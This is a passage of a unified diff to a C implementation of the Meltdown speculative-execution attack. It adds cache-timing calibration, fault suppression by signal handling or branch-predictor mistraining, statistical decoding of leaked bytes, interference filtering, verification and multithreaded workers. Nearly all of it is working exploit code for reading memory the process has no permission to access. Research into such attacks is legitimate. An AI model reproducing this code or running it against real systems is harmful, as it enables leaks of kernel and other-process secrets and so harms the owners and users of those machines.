+	meltdown_ctx_drift_reset(ctx);
+	STATS_INC(ctx, calibrations);
+	STATS_PHASE(ctx, cal_cycles);
+}
+
+/*
+ * Check that a previously computed calibration still holds by reading
+ * VAL_SAMPLES cold and hot lines and comparing their average
+ * latency to the cached values.  Returns 0 if both are within VAL_TOL
+ * percent, and -1 otherwise.
+ */
+#define VAL_SAMPLES	2048
+#define VAL_TOL		10
+static int
+meltdown_ctx_validate(struct meltdown_ctx *ctx)
+{
+	uint32_t lat[PROBE_NLINES];
+	const struct meltdown_cal *cal = &ctx->cal;
+	uint64_t cap, cold, hot, ncold, nhot;
+	unsigned int i, v;
+
+	cap = cal->avg_cold * CAL_OUTLIER;
+	if (!(cal->avg_hot < cal->threshold &&
+	    cal->threshold <= cal->avg_cold))
+		return (-1);
+	for (v = 0; v < ctx->nlines; ++v)
+		if (cal->lthreshold[v] == 0 || cal->lthreshold[v] > cap)
+			return (-1);
+	cold = hot = ncold = nhot = 0;
+	for (i = 0; i * ctx->nlines < VAL_SAMPLES; ++i) {
+		probe_flush(ctx->probe, ctx->nlines, ctx->shift);
+		if (ctx->shuffle)
+			meltdown_ctx_shuffle(ctx);
+		probe_scan(ctx->probe, ctx->order, ctx->nlines, ctx->shift,
+		    lat);
+		for (v = 0; v < ctx->nlines; ++v) {
+			if (lat[v] <= cap) {
+				cold += lat[v];
+				ncold++;
+			}
+		}
+		if (ctx->shuffle)
+			meltdown_ctx_shuffle(ctx);
+		probe_scan(ctx->probe, ctx->order, ctx->nlines, ctx->shift,
+		    lat);
+		for (v = 0; v < ctx->nlines; ++v) {
+			if (lat[v] <= cap) {
+				hot += lat[v];
+				nhot++;
+			}
+		}
+	}
+	if (ncold == 0 || nhot == 0)
+		return (-1);
+	cold /= ncold;
+	hot /= nhot;
+	VERBOSEF("cpu %d: cached cold / hot read: %llu / %llu, "
+	    "measured: %llu / %llu\n", ctx->cpu,
+	    (unsigned long long)cal->avg_cold, (unsigned long long)cal->avg_hot,
+	    (unsigned long long)cold, (unsigned long long)hot);
+	if (cold * 100 < cal->avg_cold * (100 - VAL_TOL) ||
+	    cold * 100 > cal->avg_cold * (100 + VAL_TOL) ||
+	    hot * 100 < cal->avg_hot * (100 - VAL_TOL) ||
+	    hot * 100 > cal->avg_hot * (100 + VAL_TOL))
+		return (-1);
+	VERBOSEF("cpu %d: threshold: %llu (cached)\n", ctx->cpu,
+	    (unsigned long long)cal->threshold);
+	meltdown_ctx_drift_reset(ctx);
+	return (0);
+}
+
+/*
+ * Perform a single round of the attack: flush the probe array, attempt
+ * to read the target and encode its value, or the requested digit of
+ * it, into the probe array, then measure the access time for each line
+ * of the probe array.  If n is greater than 1, read n consecutive bytes
+ * into as many probe arrays, and store the latencies for byte j at
+ * lat[j * PROBE_NLINES].  If sel is not NULL, only the nsel lines it
+ * lists are flushed and measured.
+ *
+ * With SUPPRESS_SIGNAL and SUPPRESS_NODEFER, the read faults and we
+ * recover in the signal handler.  Unlike sigsetjmp(env, 1), which costs
+ * us a system call every round, sigsetjmp(env, 0) is almost free, but
+ * requires the handler to have been installed with SA_NODEFER, lest we
+ * return to our loop with SIGSEGV blocked.
+ *
+ * With SUPPRESS_BRANCH, we first train the branch predictor to expect
+ * the condition in spec_read_cond() to be true, then flush the condition
+ * from the cache and make it false, so the read is only ever performed
+ * speculatively and never faults.  The predictor only applies what it
+ * has learned if the branch history leading up to the condition is the
+ * same, so training and attack go through the same call in the same
+ * loop, and the target, probe array and condition are selected without
+ * branching.  Training reads a harmless target into a separate probe
+ * array, which is never scanned.  Without a short delay between flushing
+ * the condition and testing it, the mispredicted read rarely happens.
+ */
+#define BR_TRAIN	8
+#define BR_DELAY	100
+static void sighandler(int signo) { siglongjmp(curctx->jmpenv, signo); }
+static void
+meltdown_ctx_flush(struct meltdown_ctx *ctx, unsigned int n,
+    const uint16_t *sel, unsigned int nsel)
+{
+	unsigned int j;
+
+	if (sel != NULL) {
+		for (j = 0; j < nsel; ++j)
+			probe_flush(ctx->probe + ((size_t)sel[j] << ctx->shift),
+			    1, ctx->shift);
+		return;
+	}
+	for (j = 0; j < n; ++j)
+		probe_flush(ctx->probe + j * PROBE_STRIDE(ctx), ctx->nlines,
+		    ctx->shift);
+}
+
+static void
+meltdown_ctx_read(struct meltdown_ctx *ctx, const uint8_t *addr,
+    const uint8_t *probe, unsigned int n, unsigned int digit,
+    const unsigned int *cond)
+{
+
+	if (n > 1 && cond == NULL)
+		spec_read_wide(addr, probe, ctx->shift, n, PROBE_STRIDE(ctx));
+	else if (n > 1)
+		spec_read_cond_wide(addr, probe, ctx->shift, n,
+		    PROBE_STRIDE(ctx), cond);
+	else if (ctx->ndigits == 1 && cond == NULL)
+		spec_read(addr, probe, ctx->shift);
+	else if (ctx->ndigits == 1)
+		spec_read_cond(addr, probe, ctx->shift, cond);
+	else if (cond == NULL)
+		spec_read_digit(addr, probe, ctx->shift,
+		    digit * ctx->dbits, ctx->nlines - 1);
+	else
+		spec_read_cond_digit(addr, probe, ctx->shift,
+		    digit * ctx->dbits, ctx->nlines - 1, cond);
+}
+
+static void
+meltdown_ctx_round(struct meltdown_ctx *ctx, const uint8_t *addr,
+    unsigned int n, unsigned int digit, const uint16_t *sel,
+    unsigned int nsel, uint32_t *lat)
+{
+	volatile unsigned int d;
+	uintptr_t mask;
+	unsigned int j, k;
+
+	STATS_START(ctx);
+	switch (ctx->suppress) {
+	case SUPPRESS_SIGNAL:
+		if (sigsetjmp(ctx->jmpenv, 1) == 0) {
+			meltdown_ctx_flush(ctx, n, sel, nsel);
+			STATS_PHASE(ctx, flush_cycles);
+			meltdown_ctx_read(ctx, addr, ctx->probe, n, digit,
+			    NULL);
+		} else {
+			STATS_INC(ctx, faults);
+		}
+		break;
+	case SUPPRESS_NODEFER:
+		if (sigsetjmp(ctx->jmpenv, 0) == 0) {
+			meltdown_ctx_flush(ctx, n, sel, nsel);
+			STATS_PHASE(ctx, flush_cycles);
+			meltdown_ctx_read(ctx, addr, ctx->probe, n, digit,
+			    NULL);
+		} else {
+			STATS_INC(ctx, faults);
+		}
+		break;
+	case SUPPRESS_BRANCH:
+		meltdown_ctx_flush(ctx, n, sel, nsel);
+		STATS_PHASE(ctx, flush_cycles);
+		for (k = 0; k <= BR_TRAIN; ++k) {
+			/* all ones while training, zero for the attack */
+			mask = (uintptr_t)(k / BR_TRAIN) - 1;
+			ctx->brcond = mask & 1;
+			probe_flush((uint8_t *)&ctx->brcond, 1, 0);
+			for (d = 0; d < BR_DELAY; ++d)
+				/* nothing */ ;
+			meltdown_ctx_read(ctx,
+			    (const uint8_t *)(((uintptr_t)ctx->brtrain & mask) |
+			    ((uintptr_t)addr & ~mask)),
+			    (const uint8_t *)(((uintptr_t)ctx->brprobe & mask) |
+			    ((uintptr_t)ctx->probe & ~mask)),
+			    n, digit, &ctx->brcond);
+		}
+		break;
+	default:
+		errx(1, "invalid fault suppression method");
+	}
+	STATS_PHASE(ctx, read_cycles);
+	if (sel != NULL) {
+		probe_scan(ctx->probe, sel, nsel, ctx->shift, lat);
+	} else {
+		ctx->scancycles = rdtsc64();
+		for (j = 0; j < n; ++j)
+			probe_scan(ctx->probe + j * PROBE_STRIDE(ctx),
+			    ctx->order, ctx->nlines, ctx->shift,
+			    lat + j * PROBE_NLINES);
+		ctx->scancycles = rdtsc64() - ctx->scancycles;
+		if (ctx->shuffle)
+			meltdown_ctx_shuffle(ctx);
+	}
+	STATS_PHASE(ctx, scan_cycles);
+	STATS_INC(ctx, rounds);
+	ctx->nrounds++;
+}
+
+/*
+ * Returns the score of the given value of a digit.
+ */
+static double
+meltdown_digit_score(const struct meltdown_ctx *ctx,
+    const struct meltdown_byte *mb, unsigned int digit, unsigned int v)
+{
+	unsigned int i;
+
+	i = digit * ctx->nlines + v;
+	return (meltdown_scoring == SCORE_LLR ? mb->score[i] : mb->hist[i]);
+}
+
+/*
+ * Returns the most likely value of a digit and stores the runner-up in
+ * *alt, and their scores in *first and *second.  Unless the digit has
+ * only two possible values, zero is left out, since rounds in which
+ * nothing was forwarded also touch line 0; see meltdown_rank().
+ */
+static unsigned int
+meltdown_best_digit(const struct meltdown_ctx *ctx,
+    const struct meltdown_byte *mb, unsigned int digit, unsigned int *alt,
+    double *first, double *second)
+{
+	double a, b, x;
+	unsigned int best, next, v;
+
+	a = b = -HUGE_VAL;
+	best = next = 0;
+	for (v = ctx->nlines > 2 ? 1 : 0; v < ctx->nlines; ++v) {
+		x = meltdown_digit_score(ctx, mb, digit, v);
+		if (x > a) {
+			b = a;
+			next = best;
+			a = x;
+			best = v;
+		} else if (x > b) {
+			b = x;
+			next = v;
+		}
+	}
+	*alt = next;
+	*first = a;
+	*second = b;
+	return (best);
+}
+
+/*
+ * Rank the candidates for a byte: find the most likely value and the
+ * runner-up, their scores, and how much the former stands out.
+ *
+ * When counting hits, under the null hypothesis that both values are
+ * equally likely, each hit is a coin toss, so we use a sign test: the
+ * lead must exceed ADAPT_Z standard deviations, i.e. (a - b)^2 >
+ * ADAPT_Z^2 * (a + b).
+ *
+ * When summing log-likelihood ratios, the difference between the two
+ * scores is the log of the posterior odds, so we simply require it to
+ * exceed ADAPT_LLR.  Reads are not quite as independent as the model
+ * assumes, so the odds are overstated and we set the bar high.
+ *
+ * The confidence is the ratio of the lead to the bar, so that anything
+ * above 1 is significant regardless of the scoring method.  With a
+ * reduced-alphabet encoding, the byte is only as good as its weakest
+ * digit, and the runner-up is the byte with that digit replaced by its
+ * own runner-up.
+ *
+ * A round in which the target was never forwarded touches line 0, so
+ * hits on line 0 are not ordinary votes: the candidates are ranked
+ * without it, and a digit is only reported as zero if none of the other
+ * values is significant and line 0 scores at least as well as the best
+ * of them.  A zero digit is therefore never significant itself.  This
+ * does not apply to the bit encoding, where the only alternative to a
+ * one is a zero.
+ */
+#define ADAPT_Z2	11	/* z = 3.3, p < 0.001 */
+#define ADAPT_LLR	13.8	/* odds > 1000000 : 1 */
+static void
+meltdown_rank(const struct meltdown_ctx *ctx, struct meltdown_byte *mb)
+{
+	double a, b, c, conf, sa, sb, wa, wb, z;
+	unsigned int alt, d, k, mask, v, walt, weak;
+
+	mask = ctx->nlines - 1;
+	conf = HUGE_VAL;
+	sa = wa = wb = 0.0;
+	walt = weak = 0;
+	for (v = 0, k = 0; k < ctx->ndigits; ++k) {
+		d = meltdown_best_digit(ctx, mb, k, &alt, &a, &b);
+		if (meltdown_scoring == SCORE_LLR)
+			c = (a - b) / ADAPT_LLR;
+		else
+			c = a > b ?
+			    (a - b) * (a - b) / (a + b) / ADAPT_Z2 : 0.0;
+		if (ctx->nlines > 2 && !(c > 1.0) &&
+		    !((z = meltdown_digit_score(ctx, mb, k, 0)) < a)) {
+			/* nothing stands out, fall back to zero */
+			alt = d;
+			b = a;
+			a = z;
+			d = 0;
+		}
+		v |= d << (k * ctx->dbits);
+		sa += a;
+		if (c < conf) {
+			conf = c;
+			weak = k;
+			walt = alt;
+			wa = a;
+			wb = b;
+		}
+	}
+	sb = sa - wa + wb;
+	mb->value[0] = v;
+	mb->value[1] = (v & ~(mask << (weak * ctx->dbits))) |
+	    walt << (weak * ctx->dbits);
+	mb->vscore[0] = sa;
+	mb->vscore[1] = sb;
+	mb->conf = conf;
+}
+
+/*
+ * Check the scans from one round for signs of interference: a scan that
+ * took more than TAINT_SCAN times as long as it should have, which means
+ * we were interrupted, or more than one line in TAINT_HOT below
+ * threshold, which means that something other than our transient read
+ * touched the probe array.  A single slow line, on the other hand, is
+ * usually just a TLB miss and does no harm, since it reads as cold.
+ * Returns non-zero if the round should be discarded.
+ */
+#define TAINT_SCAN	4
+#define TAINT_HOT	4
+#define TAINT_RETRY	8
+static int
+meltdown_ctx_tainted(const struct meltdown_ctx *ctx, const uint32_t *lat,
+    unsigned int n)
+{
+	const uint32_t *l;
+	unsigned int hot, maxhot, j, v;
+
+	if (ctx->scancycles > TAINT_SCAN * n * ctx->nlines * ctx->cur_cold)
+		return (1);
+	maxhot = ctx->nlines / TAINT_HOT > 0 ? ctx->nlines / TAINT_HOT : 1;
+	for (j = 0; j < n; ++j) {
+		l = lat + j * PROBE_NLINES;
+		for (hot = 0, v = 0; v < ctx->nlines; ++v) {
+			if (l[v] < ctx->lt[v] && ++hot > maxhot)
+				return (1);
+		}
+	}
+	return (0);
+}
+
+/*
+ * Returns the number of involuntary context switches this thread has
+ * undergone so far, or as close as the platform lets us get.
+ */
+#ifndef RUSAGE_THREAD
+#define RUSAGE_THREAD	RUSAGE_SELF
+#endif
+static long
+meltdown_nivcsw(void)
+{
+	struct rusage ru;
+
+	if (getrusage(RUSAGE_THREAD, &ru) != 0)
+		return (0);
+	return (ru.ru_nivcsw);
+}
+
+/*
+ * Record the latencies measured in one round in the trace ring buffer,
+ * overwriting the oldest record if it is full.
+ */
+static void
+meltdown_ctx_trace(struct meltdown_ctx *ctx, const uint8_t *addr,
+    unsigned int round, unsigned int digit, const uint32_t *lat)
+{
+	struct meltdown_trace_rec *tr;
+	unsigned int v;
+
+	tr = &ctx->trace[ctx->ntrace++ % TRACE_NREC];
+	tr->addr = (uintptr_t)addr;
+	tr->round = round;
+	tr->digit = digit;
+	for (v = 0; v < ctx->nlines; ++v)
+		tr->lat[v] = lat[v] < UINT16_MAX ? lat[v] : UINT16_MAX;
 }
 
 /*
- * Perform the Meltdown attack.
+ * Perform the Meltdown attack using a single context.  The caller is
+ * responsible for installing the signal handler.
  *
  * For each byte in the specified range:
  * - Flush the cache.
@@ -153,66 +1239,902 @@ meltdown_calibrate(void)
  * - In theory, one of the probe addresses should be in cache, while the
  *   others should not.  This indicates the value of the byte that was
  *   read.
+ *
+ * Rounds in which nothing was forwarded touch line 0, so a zero byte
+ * cannot be told apart from a byte that could not be read.  Zero is
+ * only reported when no other value stands out (see meltdown_rank()),
+ * and is never considered significant, so in adaptive mode zero bytes
+ * always take the full number of rounds.
+ *
+ * In adaptive mode, we stop early once we have performed at least
+ * meltdown_minrounds rounds and one value clearly stands out.
+ *
+ * Rounds that show signs of interference are dropped and rerun, up to
+ * TAINT_RETRY times in a row, after which we take what we get rather than
+ * risk spinning forever.  Preemption is checked for only once per call,
+ * since it costs a system call; if we were preempted, all the rounds
+ * performed since the start of the call are dropped and the whole range
+ * is read again, also up to TAINT_RETRY times.
+ *
+ * If the caller provides an array of per-byte histograms, we add to
+ * them instead of starting from scratch, and only perform as many rounds
+ * as needed to bring each byte's total up to the requested number.
  */
-static sigjmp_buf jmpenv;
-static void sighandler(int signo) { siglongjmp(jmpenv, signo); }
-void
-meltdown_attack(const void *targetp, void *bufp, size_t len,
-    unsigned int rounds)
+static void
+meltdown_ctx_attack_range(struct meltdown_ctx *ctx, const void *targetp,
+    void *bufp, struct meltdown_byte *mbp, size_t len, unsigned int rounds)
 {
-	unsigned int hist[PROBE_NLINES];
-	uint8_t line[16];
+	struct meltdown_byte mbl[WIDTH_MAX], *mb;
+	uint32_t lat[WIDTH_MAX * PROBE_NLINES], *l;
 	const uint8_t *target = targetp;
+	const uint32_t *lt = ctx->lt;
+	const float *llr = ctx->llr;
 	uint8_t *buf = bufp;
-	sig_t sigsegv;
-	unsigned int i, r, v, xv;
-	int signo;
-	uint8_t b;
-
-	VERBOSEF("reading %zu bytes from %p with %u rounds\n",
-	    len, target, rounds);
-	sigsegv = signal(SIGSEGV, sighandler);
-	for (i = 0; i < len; ++i) {
-		memset(hist, 0, sizeof hist);
+	unsigned int base, bin, j, k, n, retries, v;
+	size_t i;
+	int tainted;
+
+	for (i = 0; i < len; i += n) {
+		n = len - i < ctx->width ? len - i : ctx->width;
+		if (mbp != NULL) {
+			mb = &mbp[i];
+		} else {
+			mb = mbl;
+			memset(mb, 0, n * sizeof *mb);
+		}
 		/*
-		 * In each round, flush the cache, try to access the
-		 * target and record what we think its value is based on
-		 * which cache lines are hot after the speculative read.
+		 * In each round, for each digit, flush the cache, try to
+		 * access the target and record what we think the digit's
+		 * value is based on which cache lines are hot after the
+		 * speculative read.  With a width greater than 1, we do
+		 * this for several bytes at once.
 		 */
-		for (r = 0; r < rounds; ++r) {
-			if ((signo = sigsetjmp(jmpenv, 1)) == 0) {
-				for (v = 0; v < PROBE_NLINES; ++v)
-					clflush(&probe[v * PROBE_LINELEN]);
-				spec_read(&target[i], probe, PROBE_SHIFT);
+		retries = 0;
+		while (mb[0].rounds < rounds) {
+			if (meltdown_minrounds > 0 &&
+			    mb[0].rounds >= meltdown_minrounds) {
+				for (j = 0; j < n; ++j) {
+					meltdown_rank(ctx, &mb[j]);
+					if (!(mb[j].conf > 1.0))
+						break;
+				}
+				if (j == n)
+					break;
+			}
+			if (++ctx->drift_rounds >= DRIFT_INTERVAL)
+				meltdown_ctx_drift(ctx);
+			tainted = 0;
+			for (k = 0; k < ctx->ndigits; ++k) {
+				l = lat + k * n * PROBE_NLINES;
+				meltdown_ctx_round(ctx, &target[i], n, k,
+				    NULL, 0, l);
+				if (!tainted && meltdown_ctx_tainted(ctx, l, n))
+					tainted = 1;
 			}
-			for (v = 0; v < PROBE_NLINES; ++v) {
-				xv = ((v * 167) + 13) % 256; /* dodge run detection */
-				if (timed_read(&probe[xv * PROBE_LINELEN]) < threshold)
-					hist[xv]++;
+			if (tainted && retries++ < TAINT_RETRY) {
+				ctx->ntainted++;
+				STATS_INC(ctx, tainted);
+				continue;
 			}
+			retries = 0;
+			for (k = 0; k < ctx->ndigits; ++k) {
+				base = k * ctx->nlines;
+				for (j = 0; j < n; ++j) {
+					l = lat + (k * n + j) * PROBE_NLINES;
+					for (v = 0; v < ctx->nlines; ++v) {
+						if (l[v] < lt[v]) {
+							mb[j].hist[base + v]++;
+							STATS_HOT(ctx);
+						}
+						bin = l[v] / LLR_BINSIZE;
+						mb[j].score[base + v] +=
+						    llr[bin < LLR_NBINS ?
+						    bin : LLR_NBINS - 1];
+					}
+					STATS_SCAN(ctx);
+					if (ctx->trace != NULL)
+						meltdown_ctx_trace(ctx,
+						    &target[i + j],
+						    mb[j].rounds, k, l);
+				}
+			}
+			for (j = 0; j < n; ++j)
+				mb[j].rounds++;
 		}
-		/* retain the most frequent value */
-		VERYVERBOSEF("%04x |", i);
-		for (b = 0, v = 0; v < PROBE_NLINES; ++v) {
-			if (hist[v] > 0)
-				VERYVERBOSEF(" [%02x] = %u", v, hist[v]);
-			if (hist[v] > hist[b])
-				b = v;
-		}
-		VERYVERBOSEF(" | %u\n", b);
-		if (buf == NULL) {
-			line[i % 16] = b;
-			/* output 16 bytes at a time */
-			if (i % 16 == 15)
-				hexdump(i - 15, line, 16);
-		} else {
-			buf[i] = b;
+		/* retain the most likely value */
+		for (j = 0; j < n; ++j) {
+			meltdown_rank(ctx, &mb[j]);
+			VERYVERBOSEF("%p |", (const void *)&target[i + j]);
+			for (v = 0; v < ctx->ndigits * ctx->nlines; ++v)
+				if (mb[j].hist[v] > 0)
+					VERYVERBOSEF(" [%02x] = %u", v,
+					    mb[j].hist[v]);
+			VERYVERBOSEF(" | %u (%.2f)\n", mb[j].value[0],
+			    mb[j].conf);
+			buf[i + j] = mb[j].value[0];
+		}
+	}
+}
+
+void
+meltdown_ctx_attack(struct meltdown_ctx *ctx, const void *targetp,
+    void *bufp, struct meltdown_byte *mbp, size_t len, unsigned int rounds)
+{
+	struct meltdown_byte *msave;
+	uint64_t dropped, nrounds, ntainted, ntrace;
+	unsigned int retries;
+	long nivcsw;
+
+	curctx = ctx;
+	msave = NULL;
+	if (mbp != NULL) {
+		if ((msave = malloc(len * sizeof *msave)) == NULL)
+			err(1, "malloc()");
+		memcpy(msave, mbp, len * sizeof *msave);
+	}
+	ctx->nivcsw = meltdown_nivcsw();
+	for (retries = 0; ; ++retries) {
+		nrounds = ctx->nrounds;
+		ntainted = ctx->ntainted;
+		ntrace = ctx->ntrace;
+		meltdown_ctx_attack_range(ctx, targetp, bufp, mbp, len,
+		    rounds);
+		if ((nivcsw = meltdown_nivcsw()) == ctx->nivcsw ||
+		    retries >= TAINT_RETRY)
+			break;
+		ctx->nivcsw = nivcsw;
+		/* rounds already dropped as tainted were counted */
+		dropped = (ctx->nrounds - nrounds) / ctx->ndigits -
+		    (ctx->ntainted - ntainted);
+		ctx->ntainted += dropped;
+		STATS_ADD(ctx, tainted, dropped);
+		ctx->ntrace = ntrace;
+		if (mbp != NULL)
+			memcpy(mbp, msave, len * sizeof *msave);
+	}
+	free(msave);
+}
+
+/*
+ * Test whether the target matches the expected data using a single
+ * context.  The caller is responsible for installing the signal handler.
+ *
+ * Instead of scanning the entire probe array, we only measure the line
+ * corresponding to the expected value of each digit, plus VFY_NCONTROL
+ * control lines spread out over the rest of the array.  If the target
+ * matches, the expected line should be hot and the control lines cold;
+ * if it doesn't, they should all be cold.  For each digit, the score is
+ * the fraction of rounds in which the expected line was hot, less the
+ * average fraction for the control lines.
+ *
+ * A round in which the target was never forwarded touches line 0, just
+ * like a zero digit would, so zero digits cannot be verified and are
+ * skipped.  Returns the average score over the remaining digits, or 0 if
+ * there was nothing to verify.
+ */
+#define VFY_NCONTROL	4
+double
+meltdown_ctx_verify(struct meltdown_ctx *ctx, const void *targetp,
+    const void *expectedp, size_t len, unsigned int rounds)
+{
+	uint32_t lat[PROBE_NLINES];
+	uint16_t sel[VFY_NCONTROL + 1];
+	const uint8_t *target = targetp, *expected = expectedp;
+	const uint32_t *lt = ctx->lt;
+	unsigned int c, d, k, nc, r, step;
+	uint64_t ehits, chits;
+	double score;
+	size_t i, ndigits;
+
+	curctx = ctx;
+	nc = ctx->nlines - 1 < VFY_NCONTROL ? ctx->nlines - 1 : VFY_NCONTROL;
+	step = ctx->nlines / (nc + 1);
+	score = 0.0;
+	ndigits = 0;
+	for (i = 0; i < len; ++i) {
+		for (k = 0; k < ctx->ndigits; ++k) {
+			d = (expected[i] >> (k * ctx->dbits)) &
+			    (ctx->nlines - 1);
+			if (d == 0)
+				continue;
+			sel[0] = d;
+			for (c = 1; c <= nc; ++c)
+				sel[c] = (d + c * step) % ctx->nlines;
+			ehits = chits = 0;
+			for (r = 0; r < rounds; ++r) {
+				meltdown_ctx_round(ctx, &target[i], 1, k,
+				    sel, nc + 1, lat);
+				if (lat[sel[0]] < lt[sel[0]])
+					ehits++;
+				for (c = 1; c <= nc; ++c)
+					if (lat[sel[c]] < lt[sel[c]])
+						chits++;
+			}
+			score += (double)ehits / rounds -
+			    (double)chits / rounds / nc;
+			ndigits++;
+		}
+	}
+	return (ndigits > 0 ? score / ndigits : 0.0);
+}
+
+/*
+ * Install and remove our SIGSEGV handler.
+ */
+static void
+meltdown_sigsegv(struct sigaction *osa)
+{
+	struct sigaction sa;
+
+	memset(&sa, 0, sizeof sa);
+	sa.sa_handler = sighandler;
+	sa.sa_flags = SA_NODEFER;
+	sigemptyset(&sa.sa_mask);
+	if (sigaction(SIGSEGV, &sa, osa) != 0)
+		err(1, "sigaction()");
+}
+
+static void
+meltdown_sigrestore(const struct sigaction *osa)
+{
+
+	if (sigaction(SIGSEGV, osa, NULL) != 0)
+		err(1, "sigaction()");
+}
+
+/*
+ * Return the time elapsed since the given moment in seconds.
+ */
+static double
+meltdown_elapsed(const struct timespec *t0)
+{
+	struct timespec t1;
+
+	clock_gettime(CLOCK_MONOTONIC, &t1);
+	return ((t1.tv_sec - t0->tv_sec) + (t1.tv_nsec - t0->tv_nsec) / 1e9);
+}
+
+/*
+ * Start one thread for each of the first n worker contexts, bound to
+ * that context's CPU, and run the given function in each of them.  The
+ * caller must then call meltdown_wait() to wait for them all to finish.
+ */
+struct meltdown_thread {
+	pthread_t		 thr;
+	struct meltdown_ctx	*ctx;
+	void			(*func)(struct meltdown_ctx *, void *);
+	void			*arg;
+};
+
+static void *
+meltdown_thread_main(void *p)
+{
+	struct meltdown_thread *t = p;
+
+	if (cpu_bind(t->ctx->cpu) != 0)
+		warn("failed to bind to cpu %d", t->ctx->cpu);
+	curctx = t->ctx;
+	t->func(t->ctx, t->arg);
+	return (NULL);
+}
+
+static struct meltdown_thread *
+meltdown_start(unsigned int n, void (*func)(struct meltdown_ctx *, void *),
+    void *arg)
+{
+	struct meltdown_thread *threads;
+	unsigned int i;
+	int error;
+
+	if ((threads = calloc(n, sizeof *threads)) == NULL)
+		err(1, "calloc()");
+	for (i = 0; i < n; ++i) {
+		threads[i].ctx = workers[i];
+		threads[i].func = func;
+		threads[i].arg = arg;
+		error = pthread_create(&threads[i].thr, NULL,
+		    meltdown_thread_main, &threads[i]);
+		if (error != 0) {
+			errno = error;
+			err(1, "pthread_create()");
+		}
+	}
+	return (threads);
+}
+
+static void
+meltdown_wait(struct meltdown_thread *threads, unsigned int n)
+{
+	unsigned int i;
+
+	for (i = 0; i < n; ++i)
+		pthread_join(threads[i].thr, NULL);
+	free(threads);
+}
+
+/*
+ * Create one context per physical core, or as many as requested.
+ */
+void
+meltdown_init(void)
+{
+	struct meltdown_trace_hdr th;
+	int cpus[CPU_MAX];
+	unsigned int i, ncpus;
+
+	cpu_dispatch();
+	if (meltdown_width > 1 && meltdown_encoding != ENCODE_BYTE)
+		errx(1, "width is only supported with byte encoding");
+	ncpus = cpu_cores(cpus, CPU_MAX);
+	nworkers = meltdown_nthreads > 0 ? meltdown_nthreads : ncpus;
+	if ((workers = calloc(nworkers, sizeof *workers)) == NULL)
+		err(1, "calloc()");
+	for (i = 0; i < nworkers; ++i)
+		workers[i] = meltdown_ctx_create(cpus[i % ncpus]);
+	VERBOSEF("%u worker%s on %u core%s\n", nworkers,
+	    nworkers == 1 ? "" : "s", ncpus, ncpus == 1 ? "" : "s");
+	if (meltdown_trace != NULL) {
+		memset(&th, 0, sizeof th);
+		memcpy(th.magic, TRACE_MAGIC, sizeof th.magic);
+		th.version = TRACE_VERSION;
+		th.reclen = sizeof(struct meltdown_trace_rec);
+		th.nlines = workers[0]->nlines;
+		th.ndigits = workers[0]->ndigits;
+		if ((tracef = fopen(meltdown_trace, "w")) == NULL ||
+		    fwrite(&th, sizeof th, 1, tracef) != 1)
+			err(1, "%s", meltdown_trace);
+		VERBOSEF("tracing to %s\n", meltdown_trace);
+	}
+}
+
+/*
+ * Calibrate all worker contexts in parallel.  If a calibration cache was
+ * specified, try to reuse the cached results, and only recalibrate if
+ * they fail validation.
+ */
+static void
+meltdown_calibrate_worker(struct meltdown_ctx *ctx, void *arg)
+{
+
+	(void)arg;
+	if (ctx->cached && meltdown_ctx_validate(ctx) == 0)
+		return;
+	meltdown_ctx_calibrate(ctx);
+}
+
+void
+meltdown_calibrate(void)
+{
+	unsigned int i;
+
+	VERBOSEF("calibrating...\n");
+	for (i = 0; i < nworkers; ++i)
+		workers[i]->cached = meltdown_calcache != NULL &&
+		    calcache_load(meltdown_calcache, workers[i]->cpu,
+		    &workers[i]->cal) == 0;
+	meltdown_wait(meltdown_start(nworkers, meltdown_calibrate_worker, NULL),
+	    nworkers);
+	if (meltdown_calcache != NULL)
+		for (i = 0; i < nworkers; ++i)
+			if (!workers[i]->cached)
+				calcache_save(meltdown_calcache,
+				    workers[i]->cpu, &workers[i]->cal);
+}
+
+/*
+ * Append the contents of each worker's trace ring buffer to the trace
+ * file and empty them.
+ */
+static void
+meltdown_trace_flush(void)
+{
+	struct meltdown_trace_blk blk;
+	struct meltdown_ctx *ctx;
+	uint64_t first;
+	unsigned int i;
+
+	for (i = 0; i < nworkers; ++i) {
+		ctx = workers[i];
+		if (ctx->ntrace == 0)
+			continue;
+		memset(&blk, 0, sizeof blk);
+		blk.cpu = ctx->cpu;
+		blk.nrec = ctx->ntrace < TRACE_NREC ? ctx->ntrace : TRACE_NREC;
+		blk.dropped = ctx->ntrace - blk.nrec;
+		memcpy(blk.lthreshold, ctx->lt,
+		    sizeof blk.lthreshold);
+		/* if we wrapped, the oldest record follows the newest */
+		first = blk.dropped > 0 ? ctx->ntrace % TRACE_NREC : 0;
+		if (fwrite(&blk, sizeof blk, 1, tracef) != 1 ||
+		    fwrite(ctx->trace + first, sizeof *ctx->trace,
+		    blk.nrec - first, tracef) != blk.nrec - first ||
+		    fwrite(ctx->trace, sizeof *ctx->trace, first, tracef) !=
+		    first)
+			err(1, "%s", meltdown_trace);
+		ctx->ntrace = 0;
+	}
+	if (fflush(tracef) != 0)
+		err(1, "%s", meltdown_trace);
+}
+
+/*
+ * Number of worker contexts
+ */
+unsigned int
+meltdown_nworkers(void)
+{
+
+	return (nworkers);
+}
+
+/*
+ * Total number of rounds performed by all workers so far
+ */
+uint64_t
+meltdown_nrounds(void)
+{
+	uint64_t nrounds;
+	unsigned int i;
+
+	for (nrounds = 0, i = 0; i < nworkers; ++i)
+		nrounds += workers[i]->nrounds;
+	return (nrounds);
+}
+
+/*
+ * Print the instrumentation counters, summed over all workers, to stderr
+ * one per line as a name and a value separated by a tab.
+ */
+#ifdef MELTDOWN_STATS
+void
+meltdown_stats(void)
+{
+	struct meltdown_stats sum;
+	const struct meltdown_stats *st;
+	unsigned int i;
+
+	memset(&sum, 0, sizeof sum);
+	for (i = 0; i < nworkers; ++i) {
+		st = &workers[i]->stats;
+		sum.rounds += st->rounds;
+		sum.scans += st->scans;
+		sum.faults += st->faults;
+		sum.cold += st->cold;
+		sum.multi += st->multi;
+		sum.tainted += st->tainted;
+		sum.flush_cycles += st->flush_cycles;
+		sum.read_cycles += st->read_cycles;
+		sum.scan_cycles += st->scan_cycles;
+		sum.calibrations += st->calibrations;
+		sum.cal_cycles += st->cal_cycles;
+	}
+#define STATS_PRINT(s, n) \
+	fprintf(stderr, "stats.%s\t%llu\n", #n, (unsigned long long)(s).n)
+	STATS_PRINT(sum, rounds);
+	STATS_PRINT(sum, scans);
+	STATS_PRINT(sum, faults);
+	STATS_PRINT(sum, cold);
+	STATS_PRINT(sum, multi);
+	STATS_PRINT(sum, tainted);
